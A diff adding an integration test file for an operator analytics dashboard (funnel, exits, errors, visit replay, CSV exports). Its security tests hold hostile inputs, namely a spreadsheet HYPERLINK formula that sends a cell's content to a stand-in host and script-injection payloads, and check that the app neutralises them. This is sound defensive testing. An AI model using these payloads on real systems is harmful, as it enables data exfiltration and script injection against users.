@@ -1,0 +1,361 @@
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
+import { host, mobileIndex, openOperator, type TestOperator } from '../test-operator.ts'
+
+let operator: TestOperator
+let get: Awaited<ReturnType<TestOperator['enter']>>['get']
+let cookie: string
+
+beforeAll(async () => {
+  operator = await openOperator()
+  const entered = await operator.enter()
+  get = entered.get
+  cookie = entered.cookie
+})
+afterAll(() => operator.close())
+beforeEach(() =>
+  operator.pool.query(
+    'truncate event, undated_event, person, browser_user, visit, event_count, error_count, funnel_count, exit_count, step_time, minute_count, refusal_count',
+  ),
+)
+
+/** The rows of a table as texts, without markup. */
+async function rowsOf(url: string, table: string): Promise<string[][]> {
+  const { body, statusCode } = await get(url)
+  expect(statusCode, url).toBe(200)
+  const [, rest = ''] = body.split(`<table id="table-${table}"`)
+  const [, tbody = ''] = (rest.split('</table>')[0] ?? '').split('<tbody')
+  return [...tbody.matchAll(/<tr[^>]*>(.*?)<\/tr>/gs)].map(([, row = '']) =>
+    [...row.matchAll(/<t[hd][^>]*>(.*?)<\/t[hd]>/gs)].map(([, cell = '']) => cell.replace(/<[^>]*>/g, '')),
+  )
+}
+
+async function fileOf(url: string): Promise<string[]> {
+  const { body, statusCode, headers } = await get(url)
+  expect(statusCode, url).toBe(200)
+  expect(headers['content-type']).toBe('text/csv; charset=utf-8')
+  expect(body.startsWith('\uFEFF')).toBe(true)
+  return body.slice(1).split('\r\n')
+}
+
+const from = (browser: string, event: Readonly<Record<string, unknown>> = {}) => ({
+  generateId: browser,
+  traceId: `visit-${browser}`,
+  channel: 'fyh',
+  brand: 'fyh',
+  host: 'browser',
+  ...event,
+})
+const nextDay = () => operator.clock.machineNow().getTime() + 80_000_000
+const reach = (step: string) => ({ event: `reach_${step}`, action: 'reach', userId: '7' })
+
+describe('the funnel', () => {
+  test('R7.10 people are counted at every step, with their share of the first and of the step before', async () => {
+    await operator.send(
+      from('a'),
+      from('b'),
+      from('c', { userId: '7' }),
+      from('d', reach('identity')),
+      from('d', reach('identity')),
+      from('d', reach('profile')),
+    )
+    expect((await rowsOf('/operator/funnel', 'funnel')).slice(0, 5)).toEqual([
+      ['Landing', '4', '100.0%', '100.0%', '0'],
+      ['Login', '2', '50.0%', '50.0%', '2'],
+      ['Identity', '1', '25.0%', '50.0%', '1'],
+      ['Profile', '1', '25.0%', '100.0%', '0'],
+      ['Limit', '0', '0.0%', '0.0%', '1'],
+    ])
+  })
+
+  test('it is asked by channel, brand, host and days, each alone and together, and split by each', async () => {
+    await operator.send(from('a'), from('b', { channel: 'partner', host: 'messenger' }), from('c', { brand: 'fbd' }))
+    await operator.send(
+      from('d', { at: nextDay(), channel: '', brand: '', host: '' }),
+      from('e', { at: nextDay(), ...reach('paidOut'), channel: 'partner' }),
+    )
+    const landed = async (query: string) => (await rowsOf(`/operator/funnel?${query}`, 'funnel'))[0]?.[1]
+    const days = 'from=2026-11-27&to=2026-11-28'
+    expect(await landed(days)).toBe('5')
+    expect(await landed(`${days}&channel=partner`)).toBe('2')
+    expect(await landed(`${days}&channel=partner&host=messenger`)).toBe('1')
+    expect(await landed(`${days}&brand=fbd`)).toBe('1')
+    expect(await landed(`${days}&channel=-`)).toBe('1')
+    expect(await landed('from=2026-11-28&to=2026-11-28')).toBe('2')
+    const split = async (by: string) =>
+      (await rowsOf(`/operator/funnel?${days}&by=${by}`, 'funnel-split')).map((row) => [row[0], row[1], row.at(-1)])
+    expect(await split('channel')).toEqual([
+      ['fyh', '2', '0.0%'],
+      ['partner', '2', '50.0%'],
+      ['(not told)', '1', '0.0%'],
+    ])
+    expect((await split('host')).map(([host]) => host)).toEqual(['browser', '(not told)', 'messenger'])
+    expect(await split('day')).toEqual([
+      ['2026-11-28', '2', '50.0%'],
+      ['2026-11-27', '3', '0.0%'],
+    ])
+  })
+
+  test('without anybody it says so, and shows neither chart nor file', async () => {
+    const { body } = await get('/operator/funnel?channel=nobody')
+    expect(body.match(/There is no data in what is chosen/g)).toHaveLength(2)
+    expect(body).not.toMatch(/<canvas|files\//)
+    expect(body).toContain('<option value="nobody" selected>nobody</option>')
+  })
+
+  test('the switch of the language and the other pages keep what is asked', async () => {
+    await operator.send(from('a'))
+    const { body } = await get('/operator/funnel?from=2026-11-27&to=2026-11-27&channel=fyh&by=host')
+    expect(body).toContain('href="/operator/exits?from=2026-11-27&amp;to=2026-11-27&amp;channel=fyh&amp;by=host"')
+    expect(body).toContain('href="/operator/funnel?from=2026-11-27&amp;to=2026-11-27&amp;channel=fyh&amp;by=host&amp;lang=zh-CN"')
+  })
+})
+
+describe('pages and errors', () => {
+  test('drop-off counts the visits that ended on a page beside its views', async () => {
+    await operator.send(
+      from('a', { page: 'home' }),
+      from('a', { page: 'login' }),
+      from('b', { page: 'home' }),
+      from('b', { page: 'home', event: 'tap' }),
+    )
+    expect(await rowsOf('/operator/exits', 'exits')).toEqual([
+      ['home', '2', '1', '50.0%', '50.0%'],
+      ['login', '1', '1', '100.0%', '50.0%'],
+    ])
+  })
+
+  test('errors are counted by name and page; their samples lead to the visit', async () => {
+    const fault = { event: 'page_error', action: 'error', page: 'home' }
+    await operator.send(
+      from('a', { ...fault, content: 'TypeError: one' }),
+      from('b', { ...fault, content: 'TypeError: two', page: 'loan' }),
+      from('c', { ...fault, content: 'TypeError: three' }),
+      from('c', { event: 'call_http', action: 'error', page: 'home', content: '/fyh/app/loan' }),
+    )
+    expect(await rowsOf('/operator/errors', 'errors')).toEqual([
+      ['TypeError', 'page_error', 'home', '2'],
+      ['/fyh/app/loan', 'call_http', 'home', '1'],
+      ['TypeError', 'page_error', 'loan', '1'],
+    ])
+    const samples = await rowsOf('/operator/errors/samples?event=page_error&name=TypeError&page=home', 'error-samples')
+    expect(samples.map(([, content, visit]) => [content, visit]).toSorted()).toEqual([
+      ['TypeError: one', 'visit-a'],
+      ['TypeError: three', 'visit-c'],
+    ])
+    const { body } = await get('/operator/errors/samples?event=page_error&name=TypeError&page=loan')
+    expect(body).toContain('href="/operator/visits/replay?trace=visit-b&amp;browser=b"')
+  })
+
+  test('times are the median and the ninth tenth from buckets, by page and channel', async () => {
+    const form = (ms: number, channel = 'fyh') =>
+      from('a', { event: 'form_time', action: 'form', page: 'login', channel, content: JSON.stringify({ ms, fields: 2 }) })
+    await operator.send(...Array.from({ length: 8 }, () => form(4_000)), form(50_000), form(2_000_000, 'partner'))
+    expect(await rowsOf('/operator/times', 'times')).toEqual([['login', '10', '4.3 s', '60 s', '45–60 s']])
+    expect(await rowsOf('/operator/times?channel=partner', 'times')).toEqual([['login', '1', '–', '–', 'over 1,800 s']])
+  })
+})
+
+describe('visits', () => {
+  const visitsOf = async (query: string) => (await rowsOf(`/operator/visits?${query}`, 'visits')).map((row) => row.at(-1))
+
+  test('are found by user, by phone number, by their id and by day, the newest first', async () => {
+    await operator.send(from('a', { userId: '7' }), from('b', { mobile: '13800000001' }))
+    await operator.send(from('c', { at: nextDay(), userId: '7' }))
+    expect(await visitsOf('')).toEqual(['visit-c', 'visit-a', 'visit-b'])
+    expect(await visitsOf('user=7')).toEqual(['visit-c', 'visit-a'])
+    expect(await visitsOf('user=70')).toEqual([])
+    expect(await visitsOf('trace=visit-b')).toEqual(['visit-b'])
+    expect(await visitsOf('from=2026-11-28&to=2026-11-28')).toEqual(['visit-c'])
+    expect(await visitsOf('from=2026-11-28&to=2026-11-28&trace=visit-a')).toEqual([])
+  })
+
+  test('PS-02 a phone number is asked for in a form, and only its blind index stands in the address', async () => {
+    await operator.send(from('a', { mobile: '13800000001' }), from('b', { mobile: '13800000002' }))
+    const { statusCode, headers } = await operator.form('/operator/visits/by-phone', { phone: ' 138 0000 0002 ' }, { cookie })
+    expect(statusCode).toBe(303)
+    expect(headers.location).toBe(`/operator/visits?phone=${mobileIndex('13800000002')}`)
+    const { body } = await get(String(headers.location))
+    expect(body).toContain('138****0002')
+    expect(body).not.toMatch(/13800000002|138\*\*\*\*0001/)
+    const wrong = await operator.form('/operator/visits/by-phone', { phone: '12345' }, { cookie, 'accept-language': 'en-US' })
+    expect(wrong.statusCode).toBe(400)
+    expect(wrong.body).toContain('Phone number is no phone number.')
+  })
+
+  test('a replay lists the events of one visit in the order they happened, with the times between', async () => {
+    const at = operator.clock.machineNow().getTime()
+    await operator.send(
+      from('a', { at: at + 61_500, page: 'login', event: 'tap_main', action: 'tap' }),
+      from('a', { at, page: 'home' }),
+      from('b', { at: at + 1_000 }),
+      from('a', { at: at + 1_500, page: 'login', note: { shown: 'yes' } }),
+    )
+    expect(await rowsOf('/operator/visits/replay?trace=visit-a&browser=a', 'replay')).toEqual([
+      ['2026-11-27 10:00:00', '–', 'home', 'page_load', 'pageLoad', '–', '–'],
+      ['2026-11-27 10:00:01', '1.5 s', 'login', 'page_load', 'pageLoad', '–', '{&quot;note&quot;:{&quot;shown&quot;:&quot;yes&quot;}}'],
+      ['2026-11-27 10:01:01', '60 s', 'login', 'tap_main', 'tap', '–', '–'],
+    ])
+  })
+
+  test('a visit over midnight is replayed whole', async () => {
+    const at = new Date('2026-11-26T23:59:30+08:00').getTime()
+    await operator.send(from('a', { at, page: 'home' }), from('a', { at: at + 60_000, page: 'login' }))
+    expect((await rowsOf('/operator/visits/replay?trace=visit-a&browser=a', 'replay')).map((row) => row[2])).toEqual(['home', 'login'])
+  })
+
+  test('a visit that there is not says why that may be', async () => {
+    expect((await get('/operator/visits/replay?trace=nothing&browser=nobody')).body).toContain('There are no events of such a visit')
+  })
+
+  test('ten stand on a page, and one leads to the next and back', async () => {
+    await operator.send(...Array.from({ length: 23 }, (_, at) => from(`browser${at}`)))
+    expect(await visitsOf('')).toHaveLength(10)
+    expect(await visitsOf('nr=3')).toHaveLength(3)
+    const first = await get('/operator/visits?user=')
+    expect(first.body).toMatch(/Rows 1–10[\s\S]*rel="next" href="\/operator\/visits\?nr=2"/)
+    expect(first.body).not.toContain('rel="prev"')
+    const last = await get('/operator/visits?nr=3')
+    expect(last.body).toMatch(/rel="prev" href="\/operator\/visits\?nr=2"[\s\S]*Rows 21–23/)
+    expect(last.body).not.toContain('rel="next"')
+    expect(new Set([...(await visitsOf('')), ...(await visitsOf('nr=2')), ...(await visitsOf('nr=3'))]).size).toBe(23)
+  })
+})
+
+describe('the overview', () => {
+  test('counts today in Beijing, and the last sixty minutes one by one', async () => {
+    const at = operator.clock.machineNow().getTime()
+    await operator.send(
+      from('a', { at }),
+      from('a', { at: at - 60_000, event: 'page_error', action: 'error' }),
+      from('b', { at: at - 10 * 3_600_000 }),
+      from('c', { at: at - 11 * 3_600_000 }),
+    )
+    const { body } = await get('/operator')
+    const figures = [...body.matchAll(/<dd>(.*?)<\/dd>/g)].map(([, figure]) => figure)
+    expect(figures).toEqual(['running', '3', '2', '2', '1', '0', '0'])
+    const minutes = await rowsOf('/operator', 'minutes')
+    expect(minutes).toHaveLength(60)
+    expect(minutes.slice(-3)).toEqual([
+      ['2026-11-27 09:58:00', '0'],
+      ['2026-11-27 09:59:00', '1'],
+      ['2026-11-27 10:00:00', '1'],
+    ])
+  })
+
+  test('R3.8 values that were refused are counted by what they were', async () => {
+    await operator.send(from('a', { content: 'to me@example.com' }))
+    expect(await rowsOf('/operator', 'refusals')).toEqual([['e-mail address', 'content', '1']])
+  })
+})
+
+describe('what is wrong', () => {
+  test('a wrong filter is answered by naming its field, and by nothing else', async () => {
+    for (const page of ['funnel', 'exits', 'errors', 'times', 'visits', 'files/visits.csv', 'files/funnel.csv']) {
+      const { statusCode, body } = await get(`/operator/${page}?from=2026-11-31&channel=%3Cb%3E`)
+      expect(statusCode, page).toBe(400)
+      expect(body).toContain('From is no date; write one like 2026-11-28.')
+      expect(body).not.toMatch(/<b>|<table/)
+    }
+    expect((await get('/operator/visits?nr=x')).body).toContain('Page number is no whole number from 1 to 500.')
+    expect((await get('/operator/funnel?from=2026-11-31', { 'accept-language': 'zh-CN' })).body).toContain('开始日期：不是有效日期')
+  })
+
+  test('a page that there is not is told so', async () => {
+    const { statusCode, body } = await get('/operator/nothing')
+    expect([statusCode, body.includes('There is no such page')]).toEqual([404, true])
+  })
+
+  test('a question that takes too long is ended, and says what to do', async () => {
+    await operator.pool.query(
+      `alter table funnel_count rename to hidden; create view funnel_count as select * from hidden where pg_sleep(9) is not null`,
+    )
+    await operator.pool.query(`insert into hidden values ('2026-11-27', 'fyh', 'fyh', 'browser', 'landing', 0, 1)`)
+    try {
+      await operator.withHastyAnswers(async (hasty) => {
+        const ask = (url: string) => hasty.inject({ url, headers: { host, cookie, 'accept-language': 'en-US' } })
+        const { statusCode, body } = await ask('/operator/funnel')
+        expect([statusCode, body.includes('The question took too long')]).toEqual([503, true])
+        const file = await ask('/operator/files/funnel.csv')
+        expect([file.statusCode, file.headers['content-type']]).toEqual([503, 'text/html'])
+      })
+    } finally {
+      await operator.pool.query('drop view funnel_count; alter table hidden rename to funnel_count')
+    }
+  })
+})
+
+describe('files', () => {
+  test('hold all rows of what a page shows ten of, whatever the language', async () => {
+    await operator.send(...Array.from({ length: 23 }, (_, at) => from(`browser${at}`)))
+    const lines = await fileOf('/operator/files/visits.csv')
+    expect(lines).toHaveLength(25)
+    expect(lines[0]).toMatch(/^"Begin","Last event","User id"/)
+    expect(lines.at(-1)).toBe('')
+    expect((await get('/operator/files/visits.csv', { 'accept-language': 'zh-CN' })).body).toContain('"开始","最后事件"')
+    const { headers } = await get('/operator/files/visits.csv')
+    expect(headers['content-disposition']).toBe('attachment; filename="visits-2026-11-27.csv"')
+  })
+
+  test('more than a batch of rows comes whole and in order', async () => {
+    await operator.pool.query(
+      `insert into funnel_count select '2026-11-27', 'channel' || lpad(i::text, 5, '0'), '', '', 'landing', 0, 1 from generate_series(1, 3200) i`,
+    )
+    const lines = await fileOf('/operator/files/funnel-split.csv')
+    expect(lines.slice(1, -1)).toHaveLength(3_200)
+    expect(lines.slice(1, -1)).toEqual(lines.slice(1, -1).toSorted())
+  })
+
+  test('no text of an event becomes a formula, a cell or a line of its own', async () => {
+    const hostile = ['=HYPERLINK("https://elsewhere.example?"&A1)', ' ＝1+1', '\t@SUM(A1)', 'a","b', 'two\r\nlines', '+86']
+    await operator.send(...hostile.map((page, at) => from(`b${at}`, { page })))
+    const body = (await fileOf('/operator/files/exits.csv')).join('\r\n')
+    const cells = [...body.matchAll(/"((?:[^"]|"")*)"/g)].map(([, cell = '']) => cell.replaceAll('""', '"'))
+    const pages = cells.filter((_, at) => at >= 5 && at % 5 === 0)
+    expect(pages.toSorted()).toEqual(
+      [`'${hostile[0]}`, `'${hostile[1]}`, `'${hostile[2]}`, 'a","b', 'two\r\nlines', `'${hostile[5]}`].toSorted(),
+    )
+    expect(body.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^(,{4}\r\n)+$/)
+  })
+
+  test('one file is made at a time, and one that nobody reads to its end leaves no connection behind', async () => {
+    await operator.pool.query(
+      `insert into funnel_count select '2026-11-27', 'c' || i, '', '', 'landing', 0, 1 from generate_series(1, 3200) i`,
+    )
+    const [first, second] = await Promise.all([get('/operator/files/funnel-split.csv'), get('/operator/files/visits.csv')])
+    expect([first.statusCode, second.statusCode].toSorted()).toEqual([200, 503])
+    for (let turn = 0; turn < 5; turn += 1) expect((await get('/operator/files/visits.csv')).statusCode).toBe(200)
+  })
+})
+
+test('nothing that was sent is markup, on any page or in any attribute, though it came by another way than the door', async () => {
+  const hostile = '"><script>alert(1)</script><img src=x onerror=alert(1)>\' onmouseover=alert(1) '
+  const fault = { page: hostile, event: 'page_error', action: 'error', content: `${hostile}: x`, userAgent: hostile }
+  await operator.send(from('a', { page: hostile, content: hostile, [hostile]: hostile }), from('b', fault))
+  await operator.pool.query(
+    `insert into visit (trace_id, generate_id, day, first_at, first_seq, first_page, last_at, last_seq, last_page, channel, brand, host, user_id, mobile_mask, events)
+     values ($1, $1, '2026-11-27', now(), 1, $1, now(), 1, $1, $1, $1, $1, $1, $1, 1)`,
+    [hostile],
+  )
+  await operator.pool.query(`insert into funnel_count values ('2026-11-27', $1, $1, $1, 'landing', 0, 1)`, [hostile])
+  await operator.pool.query(`insert into step_time values ('2026-11-27', $1, $1, 0, 0, 1)`, [hostile])
+  await operator.pool.query(`insert into refusal_count values ('2026-11-27', $1, $1, 0, 1)`, [hostile])
+  const asked = encodeURIComponent(hostile)
+  for (const url of [
+    '/operator',
+    '/operator/funnel?by=channel',
+    `/operator/funnel?channel=${asked}`,
+    '/operator/exits',
+    '/operator/errors',
+    `/operator/errors/samples?event=page_error&name=${encodeURIComponent(hostile.slice(0, 80))}&page=${asked}`,
+    '/operator/times',
+    '/operator/visits',
+    `/operator/visits?user=${asked}&trace=${asked}`,
+    '/operator/visits/replay?trace=visit-a&browser=a',
+    `/operator/login?next=${asked}`,
+    `/operator/funnel?by=${asked}`,
+    `/operator/nothing?${asked}`,
+  ]) {
+    const { body } = await get(url)
+    expect(body, url).not.toMatch(/<script>|<img|"\s*onmouseover/)
+  }
+})
